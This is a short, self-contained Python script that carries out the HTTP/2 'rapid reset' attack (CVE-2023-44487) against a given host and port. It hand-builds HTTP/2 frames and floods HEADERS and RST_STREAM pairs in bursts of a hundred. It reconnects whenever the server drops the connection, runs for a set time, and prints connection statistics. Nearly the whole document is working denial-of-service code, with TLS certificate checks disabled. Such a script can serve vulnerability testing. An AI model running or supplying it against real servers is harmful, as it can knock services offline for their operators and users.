#!/usr/bin/env python3
"""rapid_reset.py HOST PORT plain|tls SECONDS - an HTTP/2 "rapid reset"
client (CVE-2023-44487): on each connection the preface, SETTINGS, then
HEADERS and RST_STREAM pairs as fast as the socket takes them, for
SECONDS, connecting again whenever the server closes. The frames are
written by hand, so that nothing about the client depends on an HTTP/2
library. Prints one line:

  alpn=PROTO first=SETTINGS|HTTP/1|closed|other connections=N h2=K

alpn: what TLS negotiated from an offer of h2 alone ("none" when nothing,
"plain" without TLS); first: what the first connection got back; h2: the
connections the server answered with HTTP/2 frames."""
import socket
import ssl
import struct
import sys
import time

host, port, mode, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


# HPACK, static table only: :method GET (2), :path / (4), :scheme (6 http,
# 7 https), :authority as a literal with the name of entry 1
AUTHORITY = host.encode()
BLOCK = bytes([0x82, 0x84, 0x87 if mode == "tls" else 0x86, 0x41, len(AUTHORITY)]) + AUTHORITY


def burst(first_stream, pairs):
    out = []
    for i in range(pairs):
        sid = first_stream + 2 * i
        out.append(frame(1, 0x5, sid, BLOCK))  # HEADERS, END_STREAM | END_HEADERS
        out.append(frame(3, 0, sid, struct.pack(">I", 8)))  # RST_STREAM, CANCEL
    return b"".join(out)


def connect():
    s = socket.create_connection((host, port), timeout=2)
    if mode != "tls":
        return s, "plain"
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(s, server_hostname=host)
    return s, s.selected_alpn_protocol() or "none"


def kind_of(data):
    if not data:
        return "closed"
    if data.startswith(b"HTTP/1"):
        return "HTTP/1"
    if len(data) >= 9 and data[3] == 4:
        return "SETTINGS"
    return "other"


first = alpn = None
conns = h2 = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        s, proto = connect()
    except OSError:
        time.sleep(0.05)
        continue
    conns += 1
    alpn = alpn or proto
    try:
        s.sendall(PREFACE + frame(4, 0, 0))
        s.settimeout(1)
        try:
            got = kind_of(s.recv(4096))
        except socket.timeout:
            got = "other"
        first = first or got
        if got == "SETTINGS":
            h2 += 1
            s.sendall(frame(4, 1, 0))  # SETTINGS ACK
        sid = 1
        while time.monotonic() < end:
            s.sendall(burst(sid, 100))
            sid += 200
            if sid > 0x7FFF0000:
                break
    except OSError:
        pass
    finally:
        s.close()
    time.sleep(0.01)  # closed: connect again, but not in a tight loop
print("alpn=%s first=%s connections=%d h2=%d" % (alpn, first, conns, h2))
